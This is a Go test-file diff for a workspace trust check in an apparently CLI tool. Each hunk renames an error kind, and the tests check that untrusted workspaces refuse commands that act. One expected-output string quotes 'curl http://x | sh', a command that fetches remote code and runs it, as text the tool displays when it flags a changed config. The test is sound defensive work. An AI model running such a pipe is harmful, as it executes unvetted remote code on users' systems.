@@ -140,7 +140,7 @@ func TestTrustMatrixCLI(t *testing.T) {
 			out, errOut, err := inWorkspace(t, h.Dir, args...)
 			switch c.class {
 			case acts:
-				if fault.KindOf(err) != fault.Untrusted {
+				if fault.KindOf(err) != fault.KindUntrusted {
 					t.Fatalf("%v: %v (kind %s), want a refusal for want of trust\n%s%s", args, err, fault.KindOf(err), out, errOut)
 				}
 				for _, want := range []string{"icm trust", "not trusted"} {
@@ -149,7 +149,7 @@ func TestTrustMatrixCLI(t *testing.T) {
 					}
 				}
 			default:
-				if fault.KindOf(err) == fault.Untrusted {
+				if fault.KindOf(err) == fault.KindUntrusted {
 					t.Errorf("%v was refused for want of trust; it only reads: %v", args, err)
 				}
 			}
@@ -195,7 +195,7 @@ func TestTrustMatrixCLI(t *testing.T) {
 		t.Fatal(err)
 	}
 	_, errOut, err := inWorkspace(t, h.Dir, "run", "--stage", "02-b")
-	if fault.KindOf(err) != fault.Untrusted {
+	if fault.KindOf(err) != fault.KindUntrusted {
 		t.Fatalf("after the change: %v, want a refusal", err)
 	}
 	for _, want := range []string{"changed since it was trusted", "config.toml [mcp.servers.local] changed", "curl http://x | sh"} {
@@ -219,7 +219,7 @@ func TestRunAsksAtATerminal(t *testing.T) {
 		return errb.String(), err
 	}
 	errOut, err := ask("n\n")
-	if fault.KindOf(err) != fault.Untrusted || !strings.Contains(errOut, "Trust this workspace for all of the above? [y/N]") ||
+	if fault.KindOf(err) != fault.KindUntrusted || !strings.Contains(errOut, "Trust this workspace for all of the above? [y/N]") ||
 		!strings.Contains(errOut, "run      sh -c") {
 		t.Fatalf("answered no: %v\n%s", err, errOut)
 	}
